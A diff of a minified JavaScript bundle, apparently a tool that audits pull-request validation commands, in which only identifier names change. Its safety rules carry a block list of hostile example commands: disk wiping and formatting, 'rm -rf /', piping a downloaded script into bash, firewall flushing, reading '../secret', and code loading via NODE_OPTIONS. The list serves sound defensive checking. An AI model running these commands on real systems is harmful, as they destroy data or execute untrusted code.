-he gate does not know.",wrong:fr({"node_modules/.bin/eslint":{symlink:"../eslint/eslint"},"node_modules/eslint/eslint":"\
+he gate does not know.",wrong:dr({"node_modules/.bin/eslint":{symlink:"../eslint/eslint"},"node_modules/eslint/eslint":"\
 #!/bin/sh"}),right:"npx eslint src",message:"`{name}` (`{path}`) is not a Node.js program.",remedy:"Use a tool that is a\
  Node.js program, or wrap the tool in a Node script."}),"not-installed":a({title:"Tool is not installed",why:"The audit \
 used package.json and the lockfile. The tool must be installed before it can run.",wrong:{command:"npx eslint src",without:[
@@ -1706,9 +1706,9 @@ idates it",why:"The validation changed together with the code that it validates,
  file as carefully as the rest of the change."}),"script-unreadable":o({counted:["why"],title:"Change adds a script that\
  nobody can read",why:"Reviewers read what validates a change. They cannot read a script of more than 200 kB, or one wit\
 h a line of more than 2,000 characters, of which GitHub shows nothing or a part. The gene waits for the approval of a pe\
-rson, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:wu(`const data = '\
+rson, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:yu(`const data = '\
 <2,001 letters>';
-`),right:wu(`console.log('OK');
+`),right:yu(`console.log('OK');
 `),message:"`{path}` {why}, and the command runs it.",remedy:"Write `{path}` so that it can be read, with its data in ot\
 her files, or ask a person to approve it."}),"target-writes":o({writes:!0,title:"Script changes files",why:"The source o\
 f the script writes or deletes files, so the script can pass because of what it wrote.",wrong:ao("fs.writeFileSync('out.\
@@ -1742,13 +1742,13 @@ r in a cycle",why:"The scripts would run until the time limit stops them.",wrong
  a"'),right:oo("a",'"a": "node scripts/a.js"'),message:"The npm script `{script}` calls itself.",remedy:"Remove the call\
  that closes the cycle."}),"npm-script-chain":i({title:"npm scripts run too many other scripts",why:"The gate follows th\
 e scripts that an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not judged.",
-wrong:{command:"npm run 0",files:{"package.json":dy}},right:"npm test",counted:["limit"],message:({script:p,limit:w,what:A})=>`\
-The npm script \`${p}\` is not followed: the limit of ${w} ${my[A]} is reached.`,remedy:"Run the commands directly in th\
+wrong:{command:"npm run 0",files:{"package.json":uy}},right:"npm test",counted:["limit"],message:({script:p,limit:w,what:A})=>`\
+The npm script \`${p}\` is not followed: the limit of ${w} ${hy[A]} is reached.`,remedy:"Run the commands directly in th\
 e script."}),"npmrc-setting":i({harm:"danger",title:"Settings of npm are not known to be harmless",why:"Settings such as\
  the shell, the Node.js options, the workspaces, and `usage` decide which script npm runs, or whether it runs one. npm p\
 asses every setting to scripts as `npm_config_\u2026`, and replaces `${NAME}` with an environment variable. The gate does not\
  apply them, but other machines do. A setting that the base branch has and that decides nothing is a warning; its `ignor\
-e-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:Cu("script-shell=./sh"),right:Cu(
+e-scripts`, and its `node-options` with flags that are allowed for `node`, apply.",wrong:gu("script-shell=./sh"),right:gu(
 "fund=false","fund=true"),message:({path:p,keys:w,why:A})=>{if(w.length===0)return`\`${p}\` cannot be read: ${A}.`;const J=`\
 \`${p}\` sets ${(0,s.p)(w)}`;return A==="decides"?`${J}, which decides what npm runs.`:A==="stands"?`${J}, which is not \
 known to be harmless.`:`The change edits \`${p}\`: it sets ${(0,s.p)(w)}, which is not known to be harmless.`},remedy:({
@@ -1783,14 +1783,14 @@ runner = "true"
 t = "check"
 `}},message:"The change edits `{path}`, which can decide what `{program} {subcommand}` runs.",remedy:"Change `{path}` in\
  a separate pull request, or give a module another name."}),"environment-file-unsafe":i({harm:"danger",title:"Environmen\
-t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:yu(
-"NODE_OPTIONS=--require=./x.js"),right:{...yu("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
+t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:Cu(
+"NODE_OPTIONS=--require=./x.js"),right:{...Cu("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
  that it is read."}},message:({path:p,names:w})=>`\`${p}\` ${w.length===0?"is too large to check":`sets ${(0,s.p)(w)}, w\
-hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),Eu={"validator-e\
-mpty-folder":"The validators accept the command but do not find the script."},Cy=c("policy","broken",{"validator-script":i(
+hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),_u={"validator-e\
+mpty-folder":"The validators accept the command but do not find the script."},my=c("policy","broken",{"validator-script":i(
 {title:"Hub validators only run scripts with node",why:"The validators of the protocol's hub start `node` with a script \
 file and nothing else, unless it only prints information. They refuse an npm or npx command, and the gene fails.",wrong:"\
-npm test",right:{command:"node scripts/check.js",also:Eu},message:"The hub's validators accept `node SCRIPT` alone, not \
+npm test",right:{command:"node scripts/check.js",also:_u},message:"The hub's validators accept `node SCRIPT` alone, not \
 {command}.",remedy:"Write a Node script that does the same, and run it with `node`."}),"validator-empty-folder":a({title:"\
 Hub validators do not find the script",why:"The validators of the protocol's hub run every command in a new, empty direc\
 tory, without the repository of the gene. A command that they accept can still fail there, because its script does not e\
@@ -1801,27 +1801,27 @@ Hub validators refuse the flag",why:"The validators of the protocol's hub refuse
 e, or open the debugger anywhere in a command, also after the script, where Node.js does not read them. Those of newer v\
 ersions of the reference engine accept no option of `node` but `-c` before a script, or `-v` or `-h` alone, and no backt\
 ick or `$(` even in quotes. Both are in use; what only newer ones refuse is a notice.",wrong:"node scripts/check.js -p 3\
-000",right:{command:"node scripts/check.js --port 3000",also:Eu},message:({flag:p,of:w})=>w==="newer"?`The command is ac\
+000",right:{command:"node scripts/check.js --port 3000",also:_u},message:({flag:p,of:w})=>w==="newer"?`The command is ac\
 cepted by the validators of 1.94, not of newer ones, which refuse \`${p}\`.`:`The hub's validators refuse \`${p}\` anywhe\
 re in a command.`,remedy:({flag:p,of:w})=>w==="script"?"Give the flag of the script another name.":`Write the command wi\
-thout \`${p}\`, and do in the script what it is for.`})},"`validator`");function yy(p,w,A){return i({layer:1,title:w,why:"\
+thout \`${p}\`, and do in the script what it is for.`})},"`validator`");function gy(p,w,A){return i({layer:1,title:w,why:"\
 The first layer blocks dangerous patterns anywhere in what would run: in a chain, after a prefix, in a substitution, or \
 in an npm script. Text that is data, such as a search pattern, does not match.",wrong:A,right:"cat notes.md",message:({pattern:J})=>`\
 Command blocked by safety rule: Pattern '${J}' matches dangerous pattern '${p}'.`,remedy:"Run the command outside the ag\
-ent."})}const ku=`profile: workspace
+ent."})}const Eu=`profile: workspace
 patterns:
   - name: no_production
     layer: 3
     reason: Validations stay away from production.
     regex: '\\bprod\\b'
     match: [cat config/prod.json]
-    not_match: [cat notes.md]`,wy=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
+    not_match: [cat notes.md]`,Cy=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
 "Raw disk writing","dd if=/dev/zero of=/dev/sda"],filesystem_format:["Filesystem formatting","mkfs.ext4 /dev/sdb1"],direct_disk_write:[
 "Direct disk writing","echo x > /dev/sda"],remote_code_execution:["Remote code execution","curl http://host.test/x.sh | \
 bash"],world_writable:["World-writable permissions","chmod 777 notes.md"],privilege_escalation:["Privilege escalation","\
 chown root notes.md"],firewall_manipulation:["Firewall manipulation","iptables -F"],system_shutdown:["System shutdown","\
 shutdown -h now"],system_reboot:["System reboot","reboot"],force_kill:["Force kill of processes","kill -9 1"]}).map(([p,
-[w,A]])=>[p,yy(p,w,A)])),by=c(1,"danger",{...wy,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
+[w,A]])=>[p,gy(p,w,A)])),yy=c(1,"danger",{...Cy,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
 why:"The second layer keeps file operations inside the workspace: every path must be inside it after `..` and symbolic l\
 inks are resolved.",wrong:"cat ../secret",right:"cat notes.md",configure:"`workspace` in the policy; default: the reposi\
 tory.",message:"Command blocked by safety rule: Path '{path}' is outside the workspace.",remedy:"Use a path inside the w\
@@ -1835,13 +1835,13 @@ Command is not allowed",why:"The third layer allows a fixed list of commands. Th
 not been reviewed, delete files, or download anything.",wrong:"wget https://host.test",right:"cat notes.md",configure:"`\
 families` in the policy adds a command.",message:"Command blocked by safety rule: Command '{program}' {objection}.",remedy:"\
 Use one of the allowed commands."}),custom_pattern:i({layer:3,title:"Command matches a pattern of the policy",why:"A pol\
-icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:ku},right:{
-command:"cat notes.md",policy:ku},configure:"`patterns` in the policy.",message:({name:p,pattern:w,reason:A})=>`Command \
+icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:Eu},right:{
+command:"cat notes.md",policy:Eu},configure:"`patterns` in the policy.",message:({name:p,pattern:w,reason:A})=>`Command \
 blocked by safety rule: Pattern '${w}' matches dangerous pattern '${p}': ${A.replace(/\.$/,"")}.`,remedy:"Write a comman\
-d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),vu=[()=>ly,()=>ty,()=>GC,()=>gy,
-()=>Cy,()=>NC,()=>qC,()=>by,()=>j,()=>ie,()=>PC,()=>LC,()=>ke,()=>oy,()=>_,()=>ry],Du=[...vu,()=>ny];function NP(){return vu.
-flatMap(p=>Object.values(p()))}function FP(){return Du.flatMap(p=>Object.values(p()))}const xu=new Map;function _y(p){const w=xu.
-get(p);if(w!==void 0)return w;const J=Du.find(ye=>Object.hasOwn(ye(),p))?.()?.[p];return J!==void 0&&xu.set(p,J),J}},561:function(t,e,n){
+d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),ku=[()=>cy,()=>QC,()=>jC,()=>py,
+()=>my,()=>$C,()=>KC,()=>yy,()=>j,()=>ie,()=>FC,()=>RC,()=>ke,()=>ry,()=>_,()=>ny],vu=[...ku,()=>ey];function DP(){return ku.
+flatMap(p=>Object.values(p()))}function xP(){return vu.flatMap(p=>Object.values(p()))}const Du=new Map;function wy(p){const w=Du.
+get(p);if(w!==void 0)return w;const J=vu.find(ye=>Object.hasOwn(ye(),p))?.()?.[p];return J!==void 0&&Du.set(p,J),J}},561:function(t,e,n){
 n.d(e,{Lb:()=>a,be:()=>h,gk:()=>i,pn:()=>C,q0:()=>c});var s=n(698),r=n(56);function i(b,D,O={}){return o(b,D,O)}function o(b,D,O){
 const{severity:v,harm:I,layer:_}=(0,r.Y)(b);return{rule:b,severity:v,harm:I,layer:_,args:D,...O}}function a({rule:b,args:D,
 span:O,severity:v}){return o(b,D,{span:O,severity:v})}function c({rule:b,args:D,edit:O,danger:v,level:I}){const _=(0,r.Y)(
@@ -1859,243 +1859,243 @@ return b instanceof s.ue?b.message:b instanceof Error?`${b.name}: ${b.message}`:
 0?"eligible":b.every(y)?"unproven":"refuted"}function y({rule:b}){const{unproven:D,undecided:O}=(0,r.Y)(b);return D===!0||
 O===!0}},442:function(t,e,n){n.d(e,{f:()=>r,p:()=>s});function s(i){return i.map(o=>`\`${o}\``).join(", ")}function r(i){
 return`'${i.replaceAll("'","'\\''")}'`}}},lo={};function Te(t){var e=lo[t];if(e!==void 0)return e.exports;var n=lo[t]={exports:{}},
-s=!0;try{Ou[t](n,n.exports,Te),s=!1}finally{s&&delete lo[t]}return n.exports}Te.m=Ou,typeof Te<"u"&&(Te.ab=decodeURIComponent(
+s=!0;try{xu[t](n,n.exports,Te),s=!1}finally{s&&delete lo[t]}return n.exports}Te.m=xu,typeof Te<"u"&&(Te.ab=decodeURIComponent(
 new URL(".",import.meta.url).pathname).slice(import.meta.url.match(/^file:\/\/\/\w:/)?1:0,-1)+"/"),Te.d=(t,e)=>{for(var n in e)
 Te.o(e,n)&&!Te.o(t,n)&&Object.defineProperty(t,n,{enumerable:!0,get:e[n]})},Te.f={},Te.e=t=>Promise.all(Object.keys(Te.f).
 reduce((e,n)=>(Te.f[n](t,e),e),[])),Te.u=t=>""+t+".index.js",Te.o=(t,e)=>Object.prototype.hasOwnProperty.call(t,e),(()=>{
 var t={792:0},e=n=>{var{ids:s,modules:r,runtime:i}=n,o,a,c=0;for(o in r)Te.o(r,o)&&(Te.m[o]=r[o]);for(i&&i(Te);c<s.length;c++)
 a=s[c],Te.o(t,a)&&t[a]&&t[a][0](),t[s[c]]=0};Te.f.j=(n,s)=>{var r=Te.o(t,n)?t[n]:void 0;if(r!==0)if(r)s.push(r[1]);else{
 var i=import("./"+Te.u(n)).then(e,o=>{throw t[n]!==0&&(t[n]=void 0),o}),i=Promise.race([i,new Promise(o=>r=t[n]=[o])]);s.
-push(r[1]=i)}}})();var It={};Te.d(It,{Ht:()=>pP,aB:()=>nP,x:()=>cP,dj:()=>rP,_U:()=>aP,Ae:()=>iP,lq:()=>dP,hI:()=>sP,q:()=>BP,
-Gj:()=>lP,qW:()=>hP,zD:()=>oP});const Bo=vt(import.meta.url)("node:crypto"),Au="1.13.0";function rs(t){return t==null?"n\
+push(r[1]=i)}}})();var It={};Te.d(It,{Ht:()=>oP,aB:()=>KL,x:()=>QL,dj:()=>qL,_U:()=>XL,Ae:()=>VL,lq:()=>nP,hI:()=>WL,q:()=>sP,
+Gj:()=>tP,qW:()=>iP,zD:()=>YL});const Bo=vt(import.meta.url)("node:crypto"),Ou="1.13.0";function rs(t){return t==null?"n\
 ull":typeof t=="boolean"?t?"true":"false":typeof t=="number"?Number.isFinite(t)?String(t):"null":typeof t=="string"?JSON.
 stringify(t):Array.isArray(t)?"["+t.map(rs).join(",")+"]":typeof t=="object"?"{"+Object.keys(t).sort().map(s=>JSON.stringify(
-s)+":"+rs(t[s])).join(",")+"}":"null"}function hr(t,e){if(!t||typeof t!="object")return null;const n=new Set(Array.isArray(
+s)+":"+rs(t[s])).join(",")+"}":"null"}function Br(t,e){if(!t||typeof t!="object")return null;const n=new Set(Array.isArray(
 e)?e:["asset_id"]),s={};for(const o of Object.keys(t))n.has(o)||(s[o]=t[o]);const r=rs(s);return"sha256:"+(0,Bo.createHash)(
-"sha256").update(r,"utf8").digest("hex")}function PP(t){if(!t||typeof t!="object")return!1;const e=t.asset_id;return!e||
-typeof e!="string"?!1:e===hr(t)}const jP=Object.freeze(["repair","optimize","innovate","explore"]),MP=null,GP=Object.freeze(
-["success","failed"]),HP=Object.freeze(["generated","reused","reference","user_authored"]),zP=Object.freeze(["low","medi\
-um","high"]),UP=Object.freeze(["private","unlisted","public"]),JP=Object.freeze(["cheap","standard","premium"]),ZP=Object.
-freeze(["cheap","mid","expensive"]),KP=Object.freeze(["off","low","medium","high"]),WP=Object.freeze(["warn","block"]),qP=Object.
-freeze(["behavioral","structural","performance","safety"]),VP=Object.freeze(["ci","local","prod","sandbox"]),YP=Object.freeze(
-["pass","fail","inconclusive"]);function XP(t){return t}function QP(t){return t}function ej(){return t=>t}function tj(t){}
-function nj(t){throw new Error("Unexpected value in exhaustive check")}function sj(t){}function fo(t){const e=Object.values(
-t).filter(s=>typeof s=="number");return Object.entries(t).filter(([s,r])=>e.indexOf(+s)===-1).map(([s,r])=>r)}function Su(t,e="\
-|"){return t.map(n=>Lu(n)).join(e)}function ho(t,e){return typeof e=="bigint"?e.toString():e}class Ey{constructor(e){this.
+"sha256").update(r,"utf8").digest("hex")}function AP(t){if(!t||typeof t!="object")return!1;const e=t.asset_id;return!e||
+typeof e!="string"?!1:e===Br(t)}const SP=Object.freeze(["repair","optimize","innovate","explore"]),TP=null,IP=Object.freeze(
+["success","failed"]),$P=Object.freeze(["generated","reused","reference","user_authored"]),NP=Object.freeze(["low","medi\
+um","high"]),RP=Object.freeze(["private","unlisted","public"]),FP=Object.freeze(["cheap","standard","premium"]),LP=Object.
+freeze(["cheap","mid","expensive"]),PP=Object.freeze(["off","low","medium","high"]),jP=Object.freeze(["warn","block"]),MP=Object.
+freeze(["behavioral","structural","performance","safety"]),GP=Object.freeze(["ci","local","prod","sandbox"]),HP=Object.freeze(
+["pass","fail","inconclusive"]);function zP(t){return t}function UP(t){return t}function JP(){return t=>t}function ZP(t){}
+function KP(t){throw new Error("Unexpected value in exhaustive check")}function WP(t){}function fo(t){const e=Object.values(
+t).filter(s=>typeof s=="number");return Object.entries(t).filter(([s,r])=>e.indexOf(+s)===-1).map(([s,r])=>r)}function Au(t,e="\
+|"){return t.map(n=>Fu(n)).join(e)}function ho(t,e){return typeof e=="bigint"?e.toString():e}class by{constructor(e){this.
 _getter=e,this._value=void 0}get value(){const e=this._getter;return e!==void 0&&(this._value=e(),this._getter=void 0),this.
-_value}}function po(t){return new Ey(t)}function ky(t){return t==null}function mo(t){const e=t.startsWith("^")?1:0,n=t.endsWith(
-"$")?t.length-1:t.length;return t.slice(e,n)}function vy(t,e){const n=t/e,s=Math.round(n),r=4*Number.EPSILON*Math.max(Math.
-abs(n),1);return Math.abs(n-s)<r?0:n-s}const Tu=null;function rj(t,e,n){let s;Object.defineProperty(t,e,{get(){if(s!==Tu)
-return s===void 0&&(s=Tu,s=n()),s},set(r){Object.defineProperty(t,e,{value:r})},configurable:!0})}function ij(t){return Object.
+_value}}function po(t){return new by(t)}function _y(t){return t==null}function mo(t){const e=t.startsWith("^")?1:0,n=t.endsWith(
+"$")?t.length-1:t.length;return t.slice(e,n)}function Ey(t,e){const n=t/e,s=Math.round(n),r=4*Number.EPSILON*Math.max(Math.
+abs(n),1);return Math.abs(n-s)<r?0:n-s}const Su=null;function qP(t,e,n){let s;Object.defineProperty(t,e,{get(){if(s!==Su)
+return s===void 0&&(s=Su,s=n()),s},set(r){Object.defineProperty(t,e,{value:r})},configurable:!0})}function VP(t){return Object.
 create(Object.getPrototypeOf(t),Object.getOwnPropertyDescriptors(t))}function gn(t,e,n){Object.defineProperty(t,e,{value:n,
-writable:!0,enumerable:!0,configurable:!0})}function Iu(t){const e=Object.getOwnPropertyDescriptor(t,"shape");return e?.
-get?e.get.raw:e?.value}function sn(t){return Iu(t._zod.def)??t._zod.def.shape}function $u(t,e,n){Object.defineProperty(t,
-e,{get(){const s=n();return gn(this,e,s),s},enumerable:!0,configurable:!0})}function Ru(t,e,n){e in t?gn(t,e,n):t[e]=n}function Rn(t,e,n,s){
-const r=sn(e);for(const i of n){const o=Object.getOwnPropertyDescriptor(r,i);o.enumerable&&(o.get?$u(t,i,()=>{const a=e.
-_zod.def.shape[i];return s?s(a,i):a}):Ru(t,i,s?s(o.value,i):o.value))}}function Dy(t,e){for(const n of Reflect.ownKeys(e)){
-const s=Object.getOwnPropertyDescriptor(e,n);s.enumerable&&(s.get?$u(t,n,()=>e[n]):Ru(t,n,s.value))}}function Dt(...t){const e={};
-for(const n of t){const s=Object.getOwnPropertyDescriptors(n);Object.assign(e,s)}return Object.defineProperties({},e)}function oj(t){
-return Dt(t._zod.def)}function aj(t,e){return e?e.reduce((n,s)=>n?.[s],t):t}function cj(t){const e=Object.keys(t),n=e.map(
-s=>t[s]);return Promise.all(n).then(s=>{const r={};for(let i=0;i<e.length;i++)r[e[i]]=s[i];return r})}function uj(t=10){
-const e="abcdefghijklmnopqrstuvwxyz";let n="";for(let s=0;s<t;s++)n+=e[Math.floor(Math.random()*e.length)];return n}function xy(t){
-return JSON.stringify(t)}function Oy(t){return t.toLowerCase().trim().replace(/[^\w\s-]/g,"").replace(/[\s_-]+/g,"-").replace(
-/^-+|-+$/g,"")}const Nu="captureStackTrace"in Error?Error.captureStackTrace:(...t)=>{};function pr(t){return typeof t=="\
-object"&&t!==null&&!Array.isArray(t)}const Ay=po(()=>{if(Ft.jitless||typeof navigator<"u"&&navigator?.userAgent?.includes(
-"Cloudflare"))return!1;try{const t=Function;return new t(""),!0}catch{return!1}});function is(t){if(pr(t)===!1)return!1;
-const e=t.constructor;if(e===void 0||typeof e!="function")return!0;const n=e.prototype;return!(pr(n)===!1||Object.prototype.
-hasOwnProperty.call(n,"isPrototypeOf")===!1)}function Fu(t){return is(t)?{...t}:Array.isArray(t)?[...t]:t instanceof Map?
-new Map(t):t instanceof Set?new Set(t):t}function lj(t){let e=0;for(const n in t)Object.prototype.hasOwnProperty.call(t,
-n)&&e++;return e}const dj=t=>{const e=typeof t;switch(e){case"undefined":return"undefined";case"string":return"string";case"\
+writable:!0,enumerable:!0,configurable:!0})}function Tu(t){const e=Object.getOwnPropertyDescriptor(t,"shape");return e?.
+get?e.get.raw:e?.value}function sn(t){return Tu(t._zod.def)??t._zod.def.shape}function Iu(t,e,n){Object.defineProperty(t,
+e,{get(){const s=n();return gn(this,e,s),s},enumerable:!0,configurable:!0})}function $u(t,e,n){e in t?gn(t,e,n):t[e]=n}function Nn(t,e,n,s){
+const r=sn(e);for(const i of n){const o=Object.getOwnPropertyDescriptor(r,i);o.enumerable&&(o.get?Iu(t,i,()=>{const a=e.
+_zod.def.shape[i];return s?s(a,i):a}):$u(t,i,s?s(o.value,i):o.value))}}function ky(t,e){for(const n of Reflect.ownKeys(e)){
+const s=Object.getOwnPropertyDescriptor(e,n);s.enumerable&&(s.get?Iu(t,n,()=>e[n]):$u(t,n,s.value))}}function Dt(...t){const e={};
+for(const n of t){const s=Object.getOwnPropertyDescriptors(n);Object.assign(e,s)}return Object.defineProperties({},e)}function YP(t){
+return Dt(t._zod.def)}function XP(t,e){return e?e.reduce((n,s)=>n?.[s],t):t}function QP(t){const e=Object.keys(t),n=e.map(
+s=>t[s]);return Promise.all(n).then(s=>{const r={};for(let i=0;i<e.length;i++)r[e[i]]=s[i];return r})}function ej(t=10){
+const e="abcdefghijklmnopqrstuvwxyz";let n="";for(let s=0;s<t;s++)n+=e[Math.floor(Math.random()*e.length)];return n}function vy(t){
+return JSON.stringify(t)}function Dy(t){return t.toLowerCase().trim().replace(/[^\w\s-]/g,"").replace(/[\s_-]+/g,"-").replace(
+/^-+|-+$/g,"")}const Nu="captureStackTrace"in Error?Error.captureStackTrace:(...t)=>{};function fr(t){return typeof t=="\
+object"&&t!==null&&!Array.isArray(t)}const xy=po(()=>{if(Ft.jitless||typeof navigator<"u"&&navigator?.userAgent?.includes(
+"Cloudflare"))return!1;try{const t=Function;return new t(""),!0}catch{return!1}});function is(t){if(fr(t)===!1)return!1;
+const e=t.constructor;if(e===void 0||typeof e!="function")return!0;const n=e.prototype;return!(fr(n)===!1||Object.prototype.
+hasOwnProperty.call(n,"isPrototypeOf")===!1)}function Ru(t){return is(t)?{...t}:Array.isArray(t)?[...t]:t instanceof Map?
+new Map(t):t instanceof Set?new Set(t):t}function tj(t){let e=0;for(const n in t)Object.prototype.hasOwnProperty.call(t,
+n)&&e++;return e}const nj=t=>{const e=typeof t;switch(e){case"undefined":return"undefined";case"string":return"string";case"\
 number":return Number.isNaN(t)?"nan":"number";case"boolean":return"boolean";case"function":return"function";case"bigint":
 return"bigint";case"symbol":return"symbol";case"object":return Array.isArray(t)?"array":t===null?"null":t.then&&typeof t.
 then=="function"&&t.catch&&typeof t.catch=="function"?"promise":typeof Map<"u"&&t instanceof Map?"map":typeof Set<"u"&&t instanceof
 Set?"set":typeof Date<"u"&&t instanceof Date?"date":typeof File<"u"&&t instanceof File?"file":"object";default:throw new Error(
-`Unknown data type: ${e}`)}},Sy=new Set(["string","number","symbol"]),Bj=new Set(["string","number","bigint","boolean","\
+`Unknown data type: ${e}`)}},Oy=new Set(["string","number","symbol"]),sj=new Set(["string","number","bigint","boolean","\
 symbol","undefined"]);function os(t){return t.replace(/[.*+?^${}()|[\]\\]/g,"\\$&")}function Cn(t,e,n){const s=new t._zod.
 constr(e??t._zod.def);return(!e||n?.parent)&&(s._zod.parent=t),s}function Be(t){const e=t;if(!e)return{};if(typeof e=="s\
 tring")return{error:()=>e};if(e?.message!==void 0){if(e?.error!==void 0)throw new Error("Cannot specify both `message` a\
-nd `error` params");e.error=e.message}return delete e.message,typeof e.error=="string"?{...e,error:()=>e.error}:e}function fj(t){
+nd `error` params");e.error=e.message}return delete e.message,typeof e.error=="string"?{...e,error:()=>e.error}:e}function rj(t){
 let e;return new Proxy({},{get(n,s,r){return e??(e=t()),Reflect.get(e,s,r)},set(n,s,r,i){return e??(e=t()),Reflect.set(e,
 s,r,i)},has(n,s){return e??(e=t()),Reflect.has(e,s)},deleteProperty(n,s){return e??(e=t()),Reflect.deleteProperty(e,s)},
 ownKeys(n){return e??(e=t()),Reflect.ownKeys(e)},getOwnPropertyDescriptor(n,s){return e??(e=t()),Reflect.getOwnPropertyDescriptor(
-e,s)},defineProperty(n,s,r){return e??(e=t()),Reflect.defineProperty(e,s,r)}})}function Lu(t){return typeof t=="bigint"?
-t.toString()+"n":typeof t=="string"?`"${t}"`:`${t}`}function Ty(t){return Object.keys(t).filter(e=>t[e]._zod.optin!==void 0&&
-t[e]._zod.optout==="optional")}const Pu={safeint:[Number.MIN_SAFE_INTEGER,Number.MAX_SAFE_INTEGER],int32:[-2147483648,2147483647],
+e,s)},defineProperty(n,s,r){return e??(e=t()),Reflect.defineProperty(e,s,r)}})}function Fu(t){return typeof t=="bigint"?
+t.toString()+"n":typeof t=="string"?`"${t}"`:`${t}`}function Ay(t){return Object.keys(t).filter(e=>t[e]._zod.optin!==void 0&&
+t[e]._zod.optout==="optional")}const Lu={safeint:[Number.MIN_SAFE_INTEGER,Number.MAX_SAFE_INTEGER],int32:[-2147483648,2147483647],
 uint32:[0,4294967295],float32:[-34028234663852886e22,34028234663852886e22],float64:[-Number.MAX_VALUE,Number.MAX_VALUE]},
-Iy={int64:[BigInt("-9223372036854775808"),BigInt("9223372036854775807")],uint64:[BigInt(0),BigInt("18446744073709551615")]};
-function $y(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(".pick() cannot be used on object schema\
-s containing refinements");const i={};return Rn(i,t,mr(t,e)),Cn(t,Dt(n,{shape:i,checks:[]}))}function mr(t,e){const n=sn(
+Sy={int64:[BigInt("-9223372036854775808"),BigInt("9223372036854775807")],uint64:[BigInt(0),BigInt("18446744073709551615")]};
+function Ty(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(".pick() cannot be used on object schema\
+s containing refinements");const i={};return Nn(i,t,hr(t,e)),Cn(t,Dt(n,{shape:i,checks:[]}))}function hr(t,e){const n=sn(
 t),s=[];for(const r of Reflect.ownKeys(e)){if(!Object.getOwnPropertyDescriptor(n,r)?.enumerable)throw new Error(`Unrecog\
-nized key: "${String(r)}"`);e[r]&&s.push(r)}return s}function Ry(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(
-".omit() cannot be used on object schemas containing refinements");const i=new Set(mr(t,e)),o={};return Rn(o,t,Reflect.ownKeys(
-sn(t)).filter(a=>!i.has(a))),Cn(t,Dt(n,{shape:o,checks:[]}))}function Ny(t,e){if(!is(e))throw new Error("Invalid input t\
+nized key: "${String(r)}"`);e[r]&&s.push(r)}return s}function Iy(t,e){const n=t._zod.def,s=n.checks;if(s&&s.length>0)throw new Error(
+".omit() cannot be used on object schemas containing refinements");const i=new Set(hr(t,e)),o={};return Nn(o,t,Reflect.ownKeys(
+sn(t)).filter(a=>!i.has(a))),Cn(t,Dt(n,{shape:o,checks:[]}))}function $y(t,e){if(!is(e))throw new Error("Invalid input t\
 o extend: expected a plain object");const n=t._zod.def.checks;if(n&&n.length>0){const r=sn(t);for(const i of Reflect.ownKeys(
 e))if(Object.getOwnPropertyDescriptor(r,i)!==void 0)throw new Error("Cannot overwrite keys on object schemas containing \
-refinements. Use `.safeExtend()` instead.")}return Cn(t,Dt(t._zod.def,{shape:ju(t,e)}))}function ju(t,e){const n={};return Rn(
-n,t,Reflect.ownKeys(sn(t))),Dy(n,e),n}function Fy(t,e){if(!is(e))throw new Error("Invalid input to safeExtend: expected \
-a plain object");return Cn(t,Dt(t._zod.def,{shape:ju(t,e)}))}function Ly(t,e){if(!e?._zod?.def)throw new Error("Invalid \
+refinements. Use `.safeExtend()` instead.")}return Cn(t,Dt(t._zod.def,{shape:Pu(t,e)}))}function Pu(t,e){const n={};return Nn(
+n,t,Reflect.ownKeys(sn(t))),ky(n,e),n}function Ny(t,e){if(!is(e))throw new Error("Invalid input to safeExtend: expected \
+a plain object");return Cn(t,Dt(t._zod.def,{shape:Pu(t,e)}))}function Ry(t,e){if(!e?._zod?.def)throw new Error("Invalid \
 input to merge: expected an object schema. To merge a plain shape, use `.extend()`.");if(t._zod.def.checks?.length)throw new Error(
-".merge() cannot be used on object schemas containing refinements. Use .safeExtend() instead.");const n={};Rn(n,t,Reflect.
-ownKeys(sn(t))),Rn(n,e,Reflect.ownKeys(sn(e)));const s=Dt(t._zod.def,{shape:n,get catchall(){return e._zod.def.catchall},
-checks:e._zod.def.checks??[]});return Cn(t,s)}function Mu(t,e,n,s="partial"){const i=e._zod.def.checks;if(i&&i.length>0)
-throw new Error(`.${s}() cannot be used on object schemas containing refinements`);const a=n?new Set(mr(e,n)):void 0,c={};
-return Rn(c,e,Reflect.ownKeys(sn(e)),t&&((l,u)=>a&&!a.has(u)?l:new t({type:"optional",innerType:l}))),Cn(e,Dt(e._zod.def,
-{shape:c,checks:[]}))}function Py(t,e,n){const s=n?new Set(mr(e,n)):void 0,r={};return Rn(r,e,Reflect.ownKeys(sn(e)),(i,o)=>s&&
+".merge() cannot be used on object schemas containing refinements. Use .safeExtend() instead.");const n={};Nn(n,t,Reflect.
+ownKeys(sn(t))),Nn(n,e,Reflect.ownKeys(sn(e)));const s=Dt(t._zod.def,{shape:n,get catchall(){return e._zod.def.catchall},
+checks:e._zod.def.checks??[]});return Cn(t,s)}function ju(t,e,n,s="partial"){const i=e._zod.def.checks;if(i&&i.length>0)
+throw new Error(`.${s}() cannot be used on object schemas containing refinements`);const a=n?new Set(hr(e,n)):void 0,c={};
